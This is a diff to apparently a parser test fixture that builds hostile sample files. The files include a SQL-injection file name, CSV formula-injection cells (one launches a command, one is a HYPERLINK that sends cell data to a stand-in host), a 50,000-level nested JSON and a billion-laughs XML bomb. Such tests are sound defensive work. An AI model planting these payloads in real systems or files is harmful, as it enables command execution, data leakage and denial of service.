@@ -31,7 +31,7 @@ def put_hostile(tree, labels):
     tree.put(HOSTILE + "'; DROP TABLE item; --.txt", "a name for a database\n", "text/plain", lang="en")
     tree.put(HOSTILE + "formula.csv", "name,value\n=cmd|'/C calc'!A0,1\n\"=HYPERLINK(\"\"http://tracker.test/?x=\"\"&A1)\",2\n@SUM(1+1),3\n", "text/csv",
              text="name value =cmd|'/C calc'!A0 1")
-    tree.put(HOSTILE + "deep.json", "[" * 50000 + "]" * 50000, "application/json", text="", states=("partial", "parse_error", "done", "output_limit"), note="50,000 levels")
+    tree.put(HOSTILE + "deep.json", "[" * 50000 + "]" * 50000, ["application/json", "text/plain"], text="", states=("partial", "parse_error", "done", "output_limit"), note="50,000 levels")
     lol = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY a \"lol\">\n" + "".join(
         f" <!ENTITY {chr(98 + i)} \"{('&' + chr(97 + i) + ';') * 10}\">\n" for i in range(9)) + "]>\n<lolz>&j;</lolz>\n"
     tree.put(HOSTILE + "laughs.xml", lol, ["application/xml", "text/xml"], text="", states=("done", "partial", "parse_error"), note="a billion laughs")
